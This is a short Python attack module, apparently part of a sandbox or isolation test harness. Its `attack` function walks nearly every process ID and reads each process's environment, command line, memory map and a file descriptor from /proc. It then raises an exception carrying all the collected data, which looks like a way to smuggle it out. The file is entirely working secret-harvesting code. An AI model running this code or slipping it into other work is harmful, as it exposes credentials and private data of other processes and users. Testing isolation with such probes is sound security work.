"""Read every process's memory, arguments and environment."""

TELLS = ""


def attack(*arguments, **named):
    found = []
    for number in range(1, 40_000):
        for name in ("environ", "cmdline", "maps", "fd/3"):
            try:
                with open(f"/proc/{number}/{name}", "rb") as file:
                    found.append(file.read())
            except OSError:
                pass
    raise RuntimeError(found)
